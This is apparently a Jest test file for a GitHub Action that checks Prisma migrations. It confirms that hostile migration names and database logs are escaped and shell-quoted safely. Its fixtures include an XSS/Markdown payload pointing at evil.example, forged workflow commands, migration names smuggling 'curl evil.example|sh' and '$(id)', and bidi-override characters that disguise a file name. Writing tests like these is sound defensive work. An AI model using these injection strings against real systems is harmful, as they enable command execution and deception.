import { beforeAll, describe, expect, test } from '@jest/globals'
import { spawnSync } from 'node:child_process'
import { generatedMigrations, applyLikePrisma, insertRow } from '../../test-support/fixtures.mjs'
import { runAction, errorOf, GUARDED_ENV, type RunResult } from '../helpers/run-action.js'
import { useCluster, tempProject, freshDatabase, type Project } from '../helpers/suite.js'

/**
 * Text the action does not write itself (migration names and logs read from the database, server
 * messages, SQL) reaches the log, the job summary and the outputs through dist/index.js as the
 * runner runs it. Whatever it holds, it stays text: no line break or control character survives into
 * the summary's one-line HTML blocks, no markup is added, and no log line becomes a workflow command.
 */

const pg = useCluster()

/** Markdown and HTML that would render if a line break let it out of the table. */
const INJECTED = '![tracker](https://evil.example/p.png) <img src=x onerror=alert(1)> | a | b |'

/** The summary keeps its shape: one complete block a line, none of the text's line breaks or controls. */
function expectSummaryWellFormed(summary: string): void {
  expect(summary).not.toMatch(/[\r\u2028\u2029\u0085]/)
  // eslint-disable-next-line no-control-regex
  expect(summary).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/)
  expect(summary).not.toContain('<img')
  const lines = summary.split('\n')
  expect(lines.pop()).toBe('')
  for (const line of lines) expect(line).toMatch(/^<(h2|h3|p|table|ol)>.*<\/\1>$/)
}

/** No log line the runner would split off (it ends a line at CR too) starts a workflow command it did not mean. */
function expectNoForgedCommands(r: RunResult): void {
  for (const line of r.stdout.split(/\r\n|\r|\n/)) {
    if (/^\s*::/.test(line)) expect(line).toMatch(/^::(add-mask|group|endgroup|error|warning|notice|debug)::/)
    expect(line).not.toContain('##[')
  }
}

/**
 * The `npx prisma migrate resolve …` commands a text suggests, each run through bash with `npx prisma`
 * replaced by a printf of its arguments, one a line: what a person who copies the command runs.
 */
function suggestedResolveArgs(text: string): string[][] {
  return [...text.matchAll(/`(npx prisma migrate resolve [^`]*)`/g)].map(m => {
    const command = (m[1] ?? '').replace(/^npx prisma /, "printf '%s\\n' ")
    const r = spawnSync('bash', ['-c', command], { encoding: 'utf8', env: { PATH: process.env.PATH ?? '/usr/bin:/bin' } })
    expect(r.status).toBe(0)
    return r.stdout.split('\n').slice(0, -1)
  })
}

/** A migration name a shell would not read as one plain word: command substitution, a separator, a quote. */
const SHELL_NAME = `20240101000400_x';curl evil.example|sh #$(id) "$HOME" \\`

describe('hostile text from the database, through dist/index.js', () => {
  let project: Project
  let db: string
  const hostileName = `20240101000300_evil\r\r${INJECTED}\u2028\u2029\u001b[31m`
  const hostileLogs = `ERROR: boom\r\r${INJECTED}\r\n::error::forged\r##[warning]forged too\u0085\u202e`

  beforeAll(async () => {
    const migrations = generatedMigrations(2)
    project = tempProject({ migrations })
    db = await freshDatabase(pg.cluster, async client => {
      await applyLikePrisma(client, migrations)
      await insertRow(client, { name: hostileName, checksum: 'f'.repeat(64), finished: false, logs: hostileLogs })
      await insertRow(client, { name: SHELL_NAME, checksum: 'e'.repeat(64), finished: false, logs: 'ERROR: boom' })
    })
  })

  test("a failed row's name and logs stay text in the summary and the log", async () => {
    const r = await runAction({
      workspace: project.root,
      inputs: { phase: 'verify', migrator: 'builtin', 'connect-timeout': '5', 'database-url': pg.cluster.url({ database: db }) },
      env: { ...GUARDED_ENV, DATABASE_URL: undefined }
    })
    expect(r.code).not.toBe(0)
    expect(errorOf(r)).toContain('is still marked failed')
    expectSummaryWellFormed(r.summary)
    // The row's text is there, each break a <br>, the controls shown as escapes.
    expect(r.summary).toContain('20240101000300_evil<br><br>![tracker](https://evil.example/p.png) &lt;img src=x onerror=alert(1)&gt; | a | b |<br><br>\\u001b[31m')
    expect(r.summary).toContain('ERROR: boom<br><br>![tracker](https://evil.example/p.png)')
    expectNoForgedCommands(r)
  })

  test('the resolve commands a failed row suggests keep its name one shell word', async () => {
    const r = await runAction({
      workspace: project.root,
      inputs: { phase: 'verify', migrator: 'builtin', 'connect-timeout': '5', 'database-url': pg.cluster.url({ database: db }) },
      env: { ...GUARDED_ENV, DATABASE_URL: undefined }
    })
    expect(r.code).not.toBe(0)
    const suggested = suggestedResolveArgs(errorOf(r)).filter(args => args.some(a => a.startsWith('20240101000400_')))
    expect(suggested).toEqual([
      ['migrate', 'resolve', '--rolled-back', SHELL_NAME],
      ['migrate', 'resolve', '--applied', SHELL_NAME]
    ])
  })
})

describe('hostile migration folder names, through dist/index.js', () => {
  test("a failed deploy's recovery runbook quotes the folder's name in its resolve commands", async () => {
    // A folder name holds anything but '/' and control characters.
    const name = `20240101000500_x';touch pwned;'$(id)`
    const migrations = [...generatedMigrations(1), { name, sql: 'INSERT INTO "no_such_table" VALUES (1);\n' }]
    const p = tempProject({ migrations })
    const db = await freshDatabase(pg.cluster)
    const r = await runAction({
      workspace: p.root,
      inputs: { phase: 'deploy', migrator: 'builtin', 'database-url': pg.cluster.url({ database: db }) },
      env: { ...GUARDED_ENV, DATABASE_URL: undefined }
    })
    expect(r.code).not.toBe(0)
    expect(r.stdout).toContain('Recovery runbook:')
    const suggested = suggestedResolveArgs(r.stdout)
    expect(suggested).toContainEqual(['migrate', 'resolve', '--rolled-back', name])
    expect(suggested).toContainEqual(['migrate', 'resolve', '--applied', name])
    expectSummaryWellFormed(r.summary)
  })
})

describe('invisible and bidirectional formatting characters, through dist/index.js', () => {
  /** Characters that show as nothing or reorder the text around them (Unicode Cf and other default-ignorables). */
  // eslint-disable-next-line no-misleading-character-class -- each code point is listed on its own on purpose (variation selectors U+FE00–FE0F included), none is meant to combine with the one before it
  const INVISIBLE = /[\u00ad\u061c\u180e\u200b-\u200f\u202a-\u202e\u2060-\u2064\u2066-\u2069\ufe00-\ufe0f\ufeff]|\udb40[\udc00-\udc7f]/

  const SHA = '3f786850e387550fdab836ed7e6dc881de23001b'

  test('a migration folder named with U+202E and zero-width characters is shown escaped in the log, annotations, outputs and summary', async () => {
    // The override shows what follows it reversed (`…_add` then `_xedni.exe` read backwards); the
    // zero-width space, soft hyphen and tag character show as nothing.
    const name = '20250101000000_add\u202eexe.\u200bxedni\u00ad_\u{e0041}'
    const init = { name: '20240101000000_init', sql: 'CREATE TABLE "User" ("id" SERIAL PRIMARY KEY, "name" TEXT);\n' }
    const p = tempProject({ migrations: [init, { name, sql: 'CREATE INDEX "i" ON "User"("name");\n' }] })
    // A row in "User": the index's lock is judged on a table in use (medium), as the annotation shows.
    const db = await freshDatabase(pg.cluster, async c => {
      await applyLikePrisma(c, [init])
      await c.query(`INSERT INTO "User" ("name") VALUES ('a row')`)
    })
    const r = await runAction({
      workspace: p.root,
      inputs: { phase: 'verify', migrator: 'builtin', 'database-url': pg.cluster.url({ database: db }) },
      // The repository and commit the runner names: the summary links each finding to its file there.
      env: { ...GUARDED_ENV, DATABASE_URL: undefined, GITHUB_REPOSITORY: 'acme/shop', GITHUB_SHA: SHA }
    })
    expect(errorOf(r)).toBe('')
    expect(r.code).toBe(0)
    const shown = '20250101000000_add\\u202eexe.\\u200bxedni\\u00ad_\\udb40\\udc41'
    // Nowhere printed as it is.
    expect(r.stdout).not.toMatch(INVISIBLE)
    expect(r.summary).not.toMatch(INVISIBLE)
    for (const value of Object.values(r.outputs)) expect(value).not.toMatch(INVISIBLE)
    // The log and the annotation (its file property and its message) show it escaped.
    expect(r.stdout).toContain(shown)
    expect(r.stdout).toContain(`::warning title=migration-risk%3A index-not-concurrent (medium),file=prisma/migrations/${shown}/migration.sql,line=1::`)
    // The summary shows it escaped, in the pending list and the findings table, whose link holds the
    // file's path percent-encoded.
    expect(r.summary).toContain(`<li><code>${shown}</code></li>`)
    expect(r.summary).toContain(`<a href="https://github.com/acme/shop/blob/${SHA}/prisma/migrations/${encodeURIComponent(name)}/migration.sql#L1"><code>${shown}</code> line\u00a01</a>`)
    // The JSON outputs show it escaped and still parse to the folder's real name.
    expect(r.outputs['pending-migrations']).toBe(`["${shown}"]`)
    expect(JSON.parse(r.outputs['pending-migrations'] ?? '')).toEqual([name])
    const findings = JSON.parse(r.outputs['risk-findings'] ?? '[]') as { file: string }[]
    expect(findings.map(f => f.file)).toEqual([`prisma/migrations/${name}/migration.sql`])
    expect(r.outputs['risk-findings']).toContain(shown)
  })
})
